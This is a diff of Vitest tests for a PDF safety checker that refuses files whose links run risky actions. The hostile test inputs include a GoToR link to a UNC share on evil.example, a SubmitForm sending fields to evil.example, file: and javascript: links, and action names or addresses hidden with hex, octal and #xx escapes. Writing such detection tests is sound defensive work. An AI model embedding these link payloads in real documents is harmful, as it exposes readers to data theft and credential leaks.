@@ -8,11 +8,13 @@ import path from 'node:path';
 import { deflateSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { pdfActiveContent, tooComplex } from '../../scripts/content/pdf-safety';
+import { stringText } from '../../scripts/content/pdf-syntax';
 
 const PROJECT = path.resolve(import.meta.dirname, '../..');
 const ADVICE =
   'save it again as a plain PDF (for example "Print to PDF") without scripts, attachments or forms';
-const contains = (what: string) => `contains ${what}, which can act when the file is opened: ${ADVICE}`;
+const contains = (what: string) =>
+  `contains ${what}, which can act when the file is opened or clicked: ${ADVICE}`;
 const unreadable = (why: string) => `cannot be checked (${why}): ${ADVICE}`;
 
 /** A stream object: `dict` entries, then the data as stored. */
@@ -434,6 +436,113 @@ describe('PDF active content', () => {
       expect(pdfActiveContent(file(100))).toBe(
         unreadable('its table of contents points inside another part, not at an object'),
       );
+    });
+  });
+
+  describe('actions a click runs', () => {
+    /** A PDF whose page has one link (object 5) running `action`, and `extra` objects. */
+    const linked = (action: string, extra = '') =>
+      pdf(
+        '',
+        [],
+        `5 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A ${action} >>\nendobj\n${extra}`,
+      );
+    const LINK = 'a link that goes neither to an https:// address nor to an e-mail address';
+    const LINK_ADVICE = ', with every link written as an https:// address (or an e-mail address)';
+    const clicked = (what: string) =>
+      `contains ${what}, which can act when the file is opened or clicked: ${ADVICE}`;
+
+    it.each([
+      [
+        'GoToR',
+        '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
+        'a link that opens another file (GoToR)',
+      ],
+      ['GoToE', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>', 'a link that opens an attached file (GoToE)'],
+      [
+        'SubmitForm',
+        '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>',
+        'a form that sends its fields to an address (SubmitForm)',
+      ],
+      [
+        'ImportData',
+        '<< /S /ImportData /F (data.fdf) >>',
+        'a form that reads data from another file (ImportData)',
+      ],
+      ['Rendition', '<< /S /Rendition /OP 0 >>', 'media that plays (Rendition)'],
+      ['Movie', '<< /S /Movie /T (clip) >>', 'a movie that plays (Movie)'],
+      ['Sound', '<< /S /Sound /Sound 6 0 R >>', 'a sound that plays (Sound)'],
+      [
+        'GoToR named with #xx escapes',
+        '<< /S /GoTo#52 /F (x.pdf) >>',
+        'a link that opens another file (GoToR)',
+      ],
+    ])('refuses a %s action on a link', (_, action, what) => {
+      expect(pdfActiveContent(linked(action))).toBe(clicked(what));
+    });
+
+    it('refuses an action whose /S names another object holding GoToR', () => {
+      expect(pdfActiveContent(linked('<< /S 6 0 R /F (x.pdf) >>', '6 0 obj\n/GoToR\nendobj\n'))).toBe(
+        clicked('a link that opens another file (GoToR)'),
+      );
+    });
+
+    it.each([
+      ['http://', '(http://example.org/)', '"http://example.org/"'],
+      ['file:', '(file:///C:/Windows/system32/calc.exe)', '"file:///C:/Windows/system32/calc.exe"'],
+      ['javascript:', '(javascript:alert\\(1\\))', '"javascript:alert(1)"'],
+      ['a network share', '(\\\\\\\\evil.example\\\\share)', '"\\\\evil.example\\share"'],
+      ['http:// in hexadecimal', '<687474703a2f2f612e6578616d706c652f>', '"http://a.example/"'],
+      ['http:// after a blank', '( https://example.org/)', '" https://example.org/"'],
+      ['no address', '[]', 'something other than an address'],
+    ])('refuses a link to %s', (_, target, shown) => {
+      expect(pdfActiveContent(linked(`<< /S /URI /URI ${target} >>`))).toBe(
+        `${clicked(`${LINK} (${shown})`)}${LINK_ADVICE}`,
+      );
+    });
+
+    it('refuses a link whose address is another object, one definition of which is http://', () => {
+      const extra = '6 0 obj\n(https://example.org/)\nendobj\n6 0 obj\n(http://example.org/)\nendobj\n';
+      expect(pdfActiveContent(linked('<< /S /URI /URI 6 0 R >>', extra))).toBe(
+        `${clicked(`${LINK} ("http://example.org/")`)}${LINK_ADVICE}`,
+      );
+    });
+
+    it('names only the first of many links to http://', () => {
+      const links = Array.from(
+        { length: 30 },
+        (_, n) =>
+          `${6 + n} 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://a.example/${n}) >> >>\nendobj\n`,
+      ).join('');
+      expect(pdfActiveContent(pdf('', [], links))).toBe(
+        `${clicked(`${LINK} ("http://a.example/0")`)}${LINK_ADVICE}`,
+      );
+    });
+
+    it.each([
+      ['escapes', 'a\\(b\\)\\\\c\\n\\t\\x', 'a(b)\\c\n\tx'],
+      ['octal codes', '\\150\\164tps\\72', 'https:'],
+      ['a backslash before a line break, and a bare line break', 'ab\\\r\ncd\r\nef', 'abcd\nef'],
+    ])('reads a literal string with %s as a reader does', (_, raw, text) => {
+      expect(stringText({ raw, hex: false })).toBe(text);
+    });
+
+    it('reads a hexadecimal string, blanks ignored and an odd last digit followed by 0', () => {
+      expect(stringText({ raw: '68 74 7', hex: true })).toBe('htp');
+    });
+
+    it('accepts links to https:// and e-mail addresses (escapes decoded) and to its own pages', () => {
+      const links = [
+        '<< /S /URI /URI (https://example.org/a) >>',
+        '<< /S /URI /URI (HTTPS://EXAMPLE.ORG/B) >>',
+        '<< /S /URI /URI (mailto:secretariat@example.org) >>',
+        '<< /S /URI /URI (https:\\057\\057example.org/\\\n(c)) >>',
+        '<< /S /URI /URI <68747470733a2f2f6578616d706c652e6f72672f64> >>',
+        '<< /S /GoTo /D [3 0 R /Fit] >>',
+        '<< /S /Named /N /NextPage >>',
+      ];
+      for (const action of links)
+        expect([action, pdfActiveContent(linked(action))]).toEqual([action, undefined]);
     });
   });
 });
